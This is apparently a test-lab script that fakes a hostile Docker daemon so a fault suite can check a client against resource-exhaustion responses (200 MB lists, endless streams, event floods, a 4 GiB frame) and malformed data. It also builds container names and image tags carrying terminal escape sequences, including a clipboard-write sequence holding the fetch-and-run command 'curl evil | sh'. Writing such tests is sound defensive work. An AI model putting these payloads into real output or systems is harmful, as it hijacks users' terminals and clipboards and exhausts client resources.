// A scripted hostile daemon: it plays whoever controls a container and the "dockerd" inside it.
// It speaks just enough of the Docker API to be taken for a daemon, then misbehaves in one way
// (the mode). Not a stand-in for a real daemon: the fault suite uses it only as the attacker.
//
//   node test/lab/hostile-daemon.mjs MODE SOCKET [HOST_ID]
//
// Modes: huge (200 MB container list), endless (a list that never ends), malformed (a list
// that is not JSON), many (100,000 containers), flood (10,000 events a second), collide (the
// host daemon's ID), newid (a new ID on every call), frame (a DinD-looking container whose
// exec streams, the tunnel to its daemon, and logs announce a 4 GiB frame and stream bytes
// without end), names (a container name and image tags that carry line breaks and escape
// sequences: a real dockerd refuses such names, a daemon in a container need not; it also takes
// a socket sandbox: create and start answer). Prints "listening" once it accepts.
import {randomBytes} from 'node:crypto';
import http from 'node:http';
import {rmSync} from 'node:fs';

const [mode, socket, hostId = ''] = process.argv.slice(2);
const hex = (n) => randomBytes(n / 2).toString('hex');
const ownId = `HOSTILE:${hex(16).toUpperCase()}`;
const idOf = (index) => index.toString(16).padStart(64, 'c');
/** What the names mode calls its container and its image: a fake row, a title, a clipboard write. */
const hostileName = 'x\n● prod-db\t\u001B]0;PWNED-NAME\u0007';
const hostileTag = `evil\u001B]52;c;${Buffer.from('curl evil | sh').toString('base64')}\u0007\u001B]0;PWNED-TAG\u0007/dind:1`;
const names = (index) => [mode === 'names' ? `/${hostileName}` : `/hostile-${index}`];
const image = () => (mode === 'names' ? hostileTag : 'hostile');

function json(res, value) {
	const body = JSON.stringify(value);
	res.writeHead(200, {'content-type': 'application/json', 'content-length': Buffer.byteLength(body)});
	res.end(body);
}

function info() {
	const id = mode === 'collide' ? hostId : mode === 'newid' ? `NEW:${hex(16)}` : ownId;
	return {
		ID: id,
		Name: `hostile-${mode}`,
		ServerVersion: '99.0.0',
		OperatingSystem: 'hostile',
		KernelVersion: '0',
		Driver: 'none',
		CgroupDriver: 'none',
		NCPU: 1,
		MemTotal: 1,
		Containers: 1,
		Images: 0,
		SystemTime: new Date().toISOString(),
	};
}

/** The container of mode frame: it looks like a DinD, up for an hour (past any boot grace). */
const frameId = 'f'.repeat(64);
const frameSummary = {Id: frameId, Names: ['/frame-dind'], Image: 'docker:dind', Command: 'dockerd-entrypoint.sh', Created: 1, State: 'running', Status: 'Up'};
const frameInspect = () => ({
	Id: frameId,
	Name: '/frame-dind',
	Path: 'dockerd-entrypoint.sh',
	Args: [],
	Config: {Image: 'docker:dind', Env: ['DIND_COMMIT=hostile'], Labels: {}},
	HostConfig: {Runtime: 'runc'},
	State: {Status: 'running', Running: true, Pid: 0, StartedAt: new Date(Date.now() - 3600_000).toISOString()},
	Mounts: [],
});

/** A frame header that announces 4 GiB of stdout, then bytes as fast as the reader takes them, until it hangs up. */
function hugeFrame(stream) {
	const header = Buffer.from([1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff]);
	const chunk = Buffer.alloc(64 * 1024, 'x');
	let closed = false;
	stream.on('close', () => (closed = true));
	stream.on('error', () => (closed = true));
	stream.write(header);
	const pump = () => {
		while (!closed) if (!stream.write(chunk)) return void stream.once('drain', pump);
	};
	pump();
}

const summary = (index) => ({Id: idOf(index), Names: names(index), Image: image(), Command: 'sleep', Created: 1, State: 'running', Status: 'Up'});
const inspect = (id) => ({
	Id: id,
	Name: mode === 'names' ? `/${hostileName}` : `/hostile-${id.slice(-4)}`,
	Path: 'sleep',
	Args: [],
	Config: {Image: image(), Env: [], Labels: {}},
	HostConfig: {Runtime: 'runc'},
	State: {Status: 'running', Pid: 0, StartedAt: new Date().toISOString()},
	Mounts: [],
});

/** Write `total` bytes of valid JSON (one list of padded containers) without holding it. */
function hugeList(res, total) {
	res.writeHead(200, {'content-type': 'application/json'});
	const entry = Buffer.from(`${JSON.stringify({...summary(1), Status: 'x'.repeat(4000)})},`);
	const chunk = Buffer.concat(Array.from({length: 256}, () => entry));
	let sent = 0;
	res.write('[');
	const pump = () => {
		while (sent < total) {
			sent += chunk.length;
			if (!res.write(chunk)) return void res.once('drain', pump);
		}
		res.end(`${JSON.stringify(summary(1))}]`);
	};
	pump();
}

function manyList(res, count) {
	res.writeHead(200, {'content-type': 'application/json'});
	const parts = [];
	for (let index = 0; index < count; index++) parts.push(JSON.stringify({Id: idOf(index), Names: names(index), State: 'exited'}));
	res.end(`[${parts.join(',')}]`);
}

function endless(res) {
	res.writeHead(200, {'content-type': 'application/json'});
	res.write('[');
	const timer = setInterval(() => res.write(' '), 100);
	res.on('close', () => clearInterval(timer));
}

function flood(res) {
	res.writeHead(200, {'content-type': 'application/json'});
	// 10,000 events a second, in 100 batches of 100.
	let next = 0;
	const timer = setInterval(() => {
		const lines = [];
		for (let index = 0; index < 100; index++) {
			const id = idOf(1_000_000 + (next++ % 50_000));
			lines.push(JSON.stringify({Type: 'container', Action: 'start', Actor: {ID: id}, time: Math.floor(Date.now() / 1000)}));
		}
		res.write(`${lines.join('\n')}\n`);
	}, 10);
	res.on('close', () => clearInterval(timer));
}

const server = http.createServer((req, res) => {
	const path = (req.url ?? '/').replace(/^\/v\d+\.\d+/, '').split('?')[0];
	if (path === '/_ping') return void res.end('OK');
	if (path === '/version') return json(res, {Version: '99.0.0', ApiVersion: '1.41'});
	if (path === '/info') return json(res, info());
	if (path === '/events') {
		if (mode === 'flood') return flood(res);
		res.writeHead(200, {'content-type': 'application/json'});
		// As dockerd does: the stream's headers at once, then events as they come (none here).
		if (mode === 'names') res.flushHeaders();
		return;
	}
	if (path === '/containers/json') {
		const filtered = /filters=/.test(req.url ?? '');
		if (mode === 'huge') return hugeList(res, 200 * 1024 * 1024);
		if (mode === 'endless') return endless(res);
		if (mode === 'malformed') {
			res.writeHead(200, {'content-type': 'application/json'});
			return void res.end('[{"Id": "' + idOf(1) + '", "Names": [}, ]garbage');
		}
		if (mode === 'many' && !filtered) return manyList(res, 100_000);
		if (mode === 'frame') return json(res, [frameSummary]);
		const id = /"id":\["([0-9a-f]+)"\]/.exec(decodeURIComponent(req.url ?? ''))?.[1];
		return json(res, filtered && id ? [{...summary(0), Id: id}] : [summary(1)]);
	}
	if (mode === 'frame' && path === `/containers/${frameId}/json`) return json(res, frameInspect());
	if (mode === 'frame' && path === `/containers/${frameId}/exec`) {
		const body = JSON.stringify({Id: hex(64)});
		res.writeHead(201, {'content-type': 'application/json', 'content-length': Buffer.byteLength(body)});
		return void res.end(body);
	}
	if (mode === 'frame' && path === `/containers/${frameId}/logs`) {
		res.writeHead(200, {'content-type': 'application/vnd.docker.multiplexed-stream'});
		return hugeFrame(res);
	}
	const inspected = /^\/containers\/([0-9a-f]{64})\/json$/.exec(path);
	if (inspected) return json(res, inspect(inspected[1]));
	if (mode === 'names') {
		if (path === '/images/json') return json(res, [{Id: `sha256:${'e'.repeat(64)}`, RepoTags: [hostileTag], Size: 1}]);
		if (req.method === 'POST' && path === '/containers/create') {
			res.writeHead(201, {'content-type': 'application/json'});
			return void res.end(JSON.stringify({Id: idOf(2), Warnings: []}));
		}
		if (req.method === 'POST' && /^\/containers\/[0-9a-f]{64}\/start$/.test(path)) {
			res.writeHead(204);
			return void res.end();
		}
	}
	res.writeHead(404, {'content-type': 'application/json'});
	res.end('{"message":"not in this script"}');
});

// A hijacked exec start (the exec tunnel): the raw stream after the upgrade is the attack.
server.on('upgrade', (req, stream) => {
	if (mode !== 'frame' || !/\/exec\/[0-9a-f]+\/start$/.test(req.url ?? '')) return void stream.destroy();
	stream.write('HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n');
	hugeFrame(stream);
});

rmSync(socket, {force: true});
server.listen(socket, () => process.stdout.write('listening\n'));
process.on('SIGTERM', () => process.exit(0));
